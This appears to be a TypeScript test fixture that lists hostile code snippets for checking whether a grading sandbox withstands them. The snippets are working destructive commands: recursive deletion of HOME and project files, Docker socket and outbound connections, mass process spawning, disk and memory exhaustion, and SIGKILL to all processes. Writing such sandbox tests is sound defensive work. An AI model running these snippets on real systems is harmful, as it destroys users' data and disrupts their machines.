/** What hostile code tries to reach on the machine that grades it. */
export interface Prey {
  /** A file that it must not read or change. */
  readonly file: string
  /** A port of this machine. */
  readonly port: number
  /** A process of this machine. */
  readonly pid: number
}

/** What it does, by name. Each is added to a right fix, so only what it does can make its grade worse. */
export const hostileCode: Readonly<Record<string, (prey: Prey) => string>> = {
  'loops-while-loading': () => 'for (;;) {}',
  'waits-while-loading': () => 'await new Promise(() => setInterval(() => {}, 1_000))',
  'exits-while-loading': () => 'process.exit(0)',
  'loops-after-a-second': () => 'setTimeout(() => { for (;;) {} }, 1_000)',
  'exits-after-a-second': () => 'setTimeout(() => process.exit(0), 1_000)',
  'deletes-files': ({ file }) =>
    `import fs from 'node:fs'
for (const path of [${JSON.stringify(file)}, process.cwd() + '/package.json', process.env.HOME ?? '/'])
  try { fs.rmSync(path, { recursive: true, force: true }) } catch {}`,
  'writes-through-sqlite': ({ file }) =>
    `import { DatabaseSync } from 'node:sqlite'
try { new DatabaseSync(${JSON.stringify(`${file}.sqlite`)}).exec('CREATE TABLE a (b)') } catch {}`,
  'opens-the-network': ({ port, file }) =>
    `import net from 'node:net'
for (const to of [{ port: ${port}, host: '127.0.0.1' }, { port: 53, host: '192.0.2.1' }, { path: '/var/run/docker.sock' }])
  net.connect(to, function () { this.write('from the code of ${file.length}') }).on('error', () => {})`,
  forks: () =>
    `import { spawn } from 'node:child_process'
for (let i = 0; i < 100; i++)
  try { spawn(process.execPath, ['-e', 'setInterval(() => {}, 1)'], { detached: true }).on('error', () => {}) } catch {}`,
  'fills-the-disk': () =>
    `import fs from 'node:fs'
for (const folder of ['/tmp', '/var/tmp', process.cwd(), process.cwd() + '/.unhappy/grading', '/cell'])
  try { const f = fs.openSync(folder + '/full', 'w'); for (;;) fs.writeSync(f, Buffer.alloc(2 ** 20)) } catch {}`,
  'fills-the-memory': () =>
    `const kept: Buffer[] = []
setTimeout(() => { for (;;) kept.push(Buffer.alloc(2 ** 26, 1)) }, 1_000)`,
  'prints-garbage': () =>
    `setTimeout(() => { for (let i = 0; i < 20_000; i++) process.stdout.write('\\u0007{"report":'.repeat(1_000)) }, 500)`,
  'kills-everything': ({ pid }) =>
    `setTimeout(() => { for (const pid of [${pid}, -1]) try { process.kill(pid, 'SIGKILL') } catch {} }, 1_000)`,
}
